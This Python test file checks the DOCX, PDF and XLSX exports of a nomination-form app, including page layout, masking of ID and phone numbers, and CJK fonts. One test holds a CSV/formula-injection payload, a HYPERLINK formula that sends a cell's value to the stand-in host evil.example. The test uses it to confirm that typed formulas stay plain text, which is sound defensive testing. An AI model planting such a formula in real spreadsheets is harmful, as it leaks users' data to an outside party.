import io
import shutil
import subprocess
import zipfile

import docx
import pytest
from docxtpl import DocxTemplate
from openpyxl.utils import get_column_letter

from jiangxuan.documents.build_templates import NOMINATION_FORM
from jiangxuan.documents.layout import opinion_labels
from jiangxuan.documents.services import (
    render_nomination_docx,
    render_nomination_pdf,
    render_summary_xlsx,
)
from jiangxuan.nominations.selectors import summary_sheet_rows

from .helpers import ID_NUMBER_RE, MOBILE_RE, docx_cells, docx_text, pdf_text, xlsx_sheet

pytestmark = pytest.mark.django_db

needs_poppler = pytest.mark.skipif(
    shutil.which("pdftotext") is None or shutil.which("pdffonts") is None,
    reason="poppler-utils (pdftotext, pdffonts) is not installed; `make` installs it",
)


def test_docx_template_declares_its_placeholders():
    template = DocxTemplate(NOMINATION_FORM)

    assert template.get_undeclared_template_variables() == {
        "title",
        "subtitle",
        "form_grid",
        "notes_heading",
        "notes",
    }


def test_render_nomination_docx_labels_in_spec_order_with_values(make_nomination, campaign):
    nomination = make_nomination(name="刘德明")
    spec = campaign.specification
    expected = []
    for section in spec.form.sections:
        expected.append(section.title)
        for form_field in section.fields:
            expected += [form_field.label, *(sub.label for sub in form_field.fields)]

    data = render_nomination_docx(nomination, unmasked=False)

    cells = docx_cells(data)
    assert [text for text in cells if text in expected] == expected
    assert cells[cells.index("姓名") + 1] == "刘德明"
    assert cells[cells.index("工作单位") + 1] == "长春华锐精密机械有限公司"
    assert cells[cells.index("技能水平") + 1] == "□高级技师  ☑技师  □高级工"
    document = docx.Document(io.BytesIO(data))
    assert document.paragraphs[0].text == spec.form.title
    assert [p.text for p in document.paragraphs[-2:]] == spec.form.notes
    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)


def test_render_nomination_docx_one_seal_box_per_label(make_nomination, campaign):
    nomination = make_nomination()

    cells = docx_cells(render_nomination_docx(nomination, unmasked=False))

    labels = opinion_labels(campaign.specification)
    seals = [text for text in cells if "（盖章）" in text]
    assert len(seals) == len(labels) == 5
    assert all("年    月    日" in text for text in seals)
    assert [cells[cells.index(label) + 1] for label in labels] == seals


def test_render_nomination_docx_masked_has_no_id_or_mobile(make_nomination):
    nomination = make_nomination(phone="13812345678")

    masked = docx_text(render_nomination_docx(nomination, unmasked=False))
    unmasked = docx_text(render_nomination_docx(nomination, unmasked=True))

    assert ID_NUMBER_RE.findall(masked) == []
    assert MOBILE_RE.findall(masked) == []
    assert ID_NUMBER_RE.findall(unmasked) == [nomination.id_number]
    assert MOBILE_RE.findall(unmasked) == ["13812345678"]


def test_render_nomination_docx_embeds_photo(make_nomination, add_photo):
    nomination = make_nomination()
    add_photo(nomination)

    document = docx.Document(io.BytesIO(render_nomination_docx(nomination, unmasked=False)))

    assert len(document.inline_shapes) == 1
    assert round(document.inline_shapes[0].width.mm) == 22


def test_render_nomination_docx_a3_paper(make_nomination, campaign):
    spec = campaign.specification.model_dump(mode="json")
    spec["form"]["paper"] = "A3"
    campaign.spec = spec
    campaign.__dict__.pop("specification", None)
    nomination = make_nomination()
    nomination.campaign = campaign

    document = docx.Document(io.BytesIO(render_nomination_docx(nomination, unmasked=False)))

    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (297, 420)


def test_render_nomination_docx_escapes_markup_in_values(make_nomination):
    nomination = make_nomination(name="<王&李>")

    cells = docx_cells(render_nomination_docx(nomination, unmasked=False))

    assert cells[cells.index("姓名") + 1] == "<王&李>"


def test_render_nomination_pdf_is_pdf(make_nomination):
    nomination = make_nomination()

    data = render_nomination_pdf(nomination, unmasked=False)

    assert data[:5] == b"%PDF-"


@needs_poppler
def test_render_nomination_pdf_text_has_name_title_and_masks(make_nomination, campaign):
    nomination = make_nomination(name="孙振华", phone="13812345678")

    masked = pdf_text(render_nomination_pdf(nomination, unmasked=False))
    unmasked = pdf_text(render_nomination_pdf(nomination, unmasked=True))

    assert campaign.specification.form.title in masked
    assert "孙振华" in masked
    assert ID_NUMBER_RE.findall(masked) == []
    assert MOBILE_RE.findall(masked) == []
    assert nomination.id_number in unmasked
    assert "13812345678" in unmasked


@needs_poppler
def test_render_nomination_pdf_embeds_cjk_font(make_nomination):
    nomination = make_nomination()

    fonts = subprocess.run(  # noqa: S603 - fixed tool, input from a file we wrote
        [shutil.which("pdffonts"), "-"],
        input=render_nomination_pdf(nomination, unmasked=False),
        capture_output=True,
        check=True,
    ).stdout.decode()

    cjk = [line for line in fonts.splitlines() if "CJK" in line or "WenQuanYi" in line]
    assert cjk
    assert all(" yes yes " in line for line in cjk)  # embedded and subset


def test_render_summary_xlsx_title_header_and_rows(make_nomination, campaign):
    make_nomination("expert", rank=2, name="朝阳二")
    make_nomination("grand", rank=1, name="朝阳一")
    make_nomination("expert", rank=1, name="朝阳一号")
    make_nomination(
        "expert", rank=1, name="南关一", unit="cc-nanguan-hrss", workplace="cc-yatai-heat"
    )
    rows = summary_sheet_rows(campaign)
    sheet_spec = campaign.specification.summary_sheet

    sheet = xlsx_sheet(render_summary_xlsx(campaign, rows, unmasked_ids=set(), unit_name=""))

    assert sheet["A1"].value == sheet_spec.title
    assert sheet["A2"].value == "填报单位（公章）："
    assert [c.value for c in sheet[3]] == [c.label for c in sheet_spec.columns]
    names = [sheet.cell(row=r, column=3).value for r in range(4, 8)]
    # grouped by award in spec order; within an award by nominating unit, then rank
    assert names == ["朝阳一", "南关一", "朝阳一号", "朝阳二"]
    assert [sheet.cell(row=r, column=2).value for r in range(4, 8)] == [1, 1, 1, 2]
    assert "A5:A7" in {str(r) for r in sheet.merged_cells.ranges}
    assert (sheet["A4"].value, sheet["A5"].value) == ("长春技能大奖", "长春技术能手")
    assert sheet.freeze_panes == "A4"
    assert sheet.print_title_rows == "$3:$3"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert sheet["C4"].border.left.style == "thin"
    assert sheet["K4"].alignment.wrap_text is True
    assert sheet.cell(row=9, column=1).value == sheet_spec.footer[0]
    assert sheet.cell(row=10, column=1).value == sheet_spec.note


def test_render_summary_xlsx_masks_all_but_unmasked_ids(make_nomination, campaign):
    shown = make_nomination(rank=1, phone="13812345678")
    hidden = make_nomination(rank=2, phone="13712345678")
    rows = summary_sheet_rows(campaign)

    sheet = xlsx_sheet(render_summary_xlsx(campaign, rows, unmasked_ids={shown.id}))

    text = "\n".join(str(c.value) for row in sheet.iter_rows() for c in row if c.value)
    assert ID_NUMBER_RE.findall(text) == [shown.id_number]
    assert MOBILE_RE.findall(text) == ["13812345678"]
    assert hidden.id_number[:3] + "*" * 11 + hidden.id_number[-4:] in text


def test_render_summary_xlsx_ungrouped_numbers_rows(make_nomination, campaign):
    spec = campaign.specification.model_dump(mode="json")
    spec["summary_sheet"]["group_by_award"] = False
    spec["summary_sheet"]["columns"] = [
        {"key": "seq", "label": "序号"},
        {"key": "name", "label": "姓名"},
    ]
    campaign.spec = spec
    campaign.__dict__.pop("specification", None)
    make_nomination("expert", rank=1, name="甲")
    make_nomination("grand", rank=2, name="乙")

    sheet = xlsx_sheet(
        render_summary_xlsx(campaign, summary_sheet_rows(campaign), unmasked_ids=set())
    )

    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=3, max_row=5)] == [
        ["序号", "姓名"],
        [1, "乙"],
        [2, "甲"],
    ]
    assert sheet.merged_cells.ranges == set() or all(
        r.min_row < 3 or r.min_row > 5 for r in sheet.merged_cells.ranges
    )


@pytest.mark.parametrize("grouped", [True, False])
def test_render_summary_xlsx_without_nominations_prints_head_and_footer(campaign, grouped):
    spec = campaign.specification.model_dump(mode="json")
    spec["summary_sheet"]["group_by_award"] = grouped
    campaign.spec = spec
    campaign.__dict__.pop("specification", None)
    sheet_spec = campaign.specification.summary_sheet

    sheet = xlsx_sheet(render_summary_xlsx(campaign, [], unmasked_ids=set()))

    assert [c.value for c in sheet[3]] == [c.label for c in sheet_spec.columns]
    assert sheet.cell(row=5, column=1).value == sheet_spec.footer[0]
    assert sheet.cell(row=6, column=1).value == sheet_spec.note
    last = get_column_letter(len(sheet_spec.columns))
    assert {str(r) for r in sheet.merged_cells.ranges if r.min_row > 3} == {
        f"A5:{last}5",
        f"A6:{last}6",
    }


INJECTED = '=HYPERLINK("http://evil.example/?leak="&C4,"点击查看")'


def test_render_summary_xlsx_typed_formulas_stay_text(make_nomination, campaign):
    """Issue 16.5: text typed as a formula is a string cell in the export, never a formula."""
    make_nomination(rank=1, name="+王建国", achievement_summary=INJECTED, occupation="@SUM(1)")
    data = render_summary_xlsx(campaign, summary_sheet_rows(campaign), unmasked_ids=set())

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<hyperlink" not in sheet_xml
    values = {c.value for row in xlsx_sheet(data).iter_rows() for c in row}
    assert {INJECTED, "+王建国", "@SUM(1)"} <= values


@needs_poppler
def test_render_nomination_pdf_keeps_long_text_many_rows_and_rare_characters(make_nomination):
    # Issue 14 "Bad input": no photo, 3,000 字 of innovation text, 40 work-history rows,
    # a name with characters outside the basic plane — produced, and nothing cut.
    innovation = "".join(f"第{i}项革新降低废品率。" for i in range(1, 301))
    history = [
        {"period": f"{1990 + i}—{1991 + i}", "workplace": f"第{i}车间", "witness": f"证明人{i}"}
        for i in range(1, 41)
    ]
    nomination = make_nomination(
        name="䶮𠀀㐂", extra={"innovation": innovation}, work_history=history
    )

    text = pdf_text(render_nomination_pdf(nomination, unmasked=False))
    docx = "".join(docx_cells(render_nomination_docx(nomination, unmasked=False)))

    flat = "".join(text.split())
    assert "䶮𠀀㐂" in flat
    assert "第300项革新降低废品率。" in flat
    assert "第40车间" in flat
    assert "第300项革新降低废品率。" in docx
    assert "第40车间" in docx
